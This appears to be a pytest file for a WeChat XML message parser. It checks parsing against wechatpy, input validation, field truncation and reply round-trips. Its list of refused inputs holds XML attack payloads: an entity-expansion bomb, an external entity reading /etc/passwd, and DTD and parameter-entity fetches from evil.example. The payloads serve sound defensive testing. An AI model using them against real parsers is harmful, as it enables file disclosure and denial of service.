"""WeChat's XML: its own payloads read, everything else refused, and what we write read by a WeChat library."""

from __future__ import annotations

import pytest
from wechatpy import parse_message

from channels.wechat.incoming import Incoming, UnreadableError, fields, read, sealed_reply, text_reply
from tests.channels.wechat.payloads import PAYLOADS, TEXT

USER = "fromUser"


@pytest.mark.parametrize("name", PAYLOADS)
def test_wechats_own_payloads_read_as_a_wechat_library_reads_them(name: str) -> None:
    ours, theirs = read(fields(PAYLOADS[name])), parse_message(PAYLOADS[name])
    assert (ours.openid, ours.account) == (theirs.source, theirs.target)
    assert str(ours.created) == str(int(theirs.create_time.timestamp()))
    assert ours.kind == ("event" if theirs.type == "event" else theirs.type)
    if ours.kind == "event":
        assert ours.number == ""
        assert str(ours.created) in ours.id
    else:
        assert ours.id == ours.number == str(theirs.id)
    if ours.kind == "text":
        assert ours.text == theirs.content
    if ours.kind in ("image", "voice", "video", "shortvideo"):
        assert ours.media == theirs.media_id
    if ours.kind == "location":
        assert (ours.latitude, ours.longitude) == theirs.location
        assert ours.label == theirs.label


def test_two_events_of_one_second_are_two() -> None:
    click, view = read(fields(PAYLOADS["click"])), read(fields(PAYLOADS["view"]))
    assert click.created == view.created
    assert click.id != view.id
    assert click.id == read(fields(PAYLOADS["click"])).id


def altered(**change: str) -> dict[str, str]:
    return {**fields(TEXT), **change}


@pytest.mark.parametrize("missing", ["ToUserName", "FromUserName", "CreateTime", "MsgType", "MsgId"])
def test_a_message_lacks_nothing(missing: str) -> None:
    given = fields(TEXT)
    with pytest.raises(UnreadableError):
        read({name: value for name, value in given.items() if name != missing})
    with pytest.raises(UnreadableError):
        read({**given, missing: " \x00 "})


@pytest.mark.parametrize("created", ["", "x", "-1", "1.5", "１３４８", "1e9"])
def test_a_time_is_a_number_of_seconds(created: str) -> None:
    with pytest.raises(UnreadableError):
        read(altered(CreateTime=created))


def test_what_is_too_long_is_cut_and_what_no_database_keeps_is_left_out() -> None:
    message = read(altered(Content="  玉\0米\ud800" + "问" * 5000, Label="x" * 999, PicUrl="u" * 999, MsgId="9" * 64))
    assert message.text.startswith("玉米问问")
    assert len(message.text) == 2046
    assert (len(message.label), len(message.url), len(message.number)) == (200, 500, 40)


def test_an_events_id_fits_the_database() -> None:
    event = read(altered(MsgType="event", Event="CLICK", EventKey="问" * 400))
    assert len(event.id) == 100
    assert event.key == "问" * 400


BOMB = (
    '<?xml version="1.0"?><!DOCTYPE xml [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
    '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]>'
    "<xml><Content>&d;</Content></xml>"
)
REFUSED: dict[str, bytes | str] = {
    "nothing": b"",
    "blank": b" \n",
    "no XML": "玉米多少钱".encode(),
    "JSON": b'{"ToUserName": "x"}',
    "truncated": TEXT.encode()[:-20],
    "cut within a hanzi": TEXT.encode()[: TEXT.encode().index("玉".encode()) + 1],
    "another root": "<html><body/></html>",
    "two roots": TEXT + TEXT,
    "garbled": bytes(range(256)),
    "broken UTF-8": b"<xml><Content>\xff\xfe\xfd</Content></xml>",
    "an unknown encoding": b'<?xml version="1.0" encoding="klingon"?><xml/>',
    "NUL": b"<xml>\0</xml>",
    "an entity bomb": BOMB,
    "an outside entity": '<!DOCTYPE xml [<!ENTITY x SYSTEM "file:///etc/passwd">]><xml><Content>&x;</Content></xml>',
    "an outside DTD": '<!DOCTYPE xml SYSTEM "http://evil.example/x.dtd"><xml/>',
    "a parameter entity": '<!DOCTYPE xml [<!ENTITY % x SYSTEM "http://evil.example/x"> %x;]><xml/>',
    "an undefined entity": "<xml><Content>&nbsp;</Content></xml>",
    "deep": b"<xml>" + b"<a>" * 5000 + b"</xml>",
}


@pytest.mark.parametrize("xml", REFUSED.values(), ids=REFUSED.keys())
def test_what_is_no_xml_of_wechats_is_refused(xml: bytes | str) -> None:
    with pytest.raises(UnreadableError):
        fields(xml)


def test_nested_fields_and_markup_in_texts_do_not_confuse() -> None:
    xml = "<xml><A><Content>inner</Content></A><Content><![CDATA[<Content>x</Content>&amp;]]></Content></xml>"
    assert fields(xml) == {"Content": "<Content>x</Content>&amp;"}


@pytest.mark.parametrize("text", ["玉米1.17元/斤", "]]>", "a]]>b]]]>", "<xml>&amp;</xml>", "𠮷🌽\n1 一\n2 二"], ids=str)
def test_what_we_write_is_read_as_it_was_said(text: str) -> None:
    to = Incoming(account="gh_1", openid="o]]>1", kind="text", created=1, number="1")
    xml = text_reply(to, text, 1700000000)
    assert fields(xml) == {
        "ToUserName": "o]]>1", "FromUserName": "gh_1", "CreateTime": "1700000000", "MsgType": "text", "Content": text,
    }  # fmt: skip


def test_a_sealed_reply_has_the_four_fields() -> None:
    assert fields(sealed_reply("abc=", "f" * 40, "1", "n")) == {
        "Encrypt": "abc=", "MsgSignature": "f" * 40, "TimeStamp": "1", "Nonce": "n",
    }  # fmt: skip
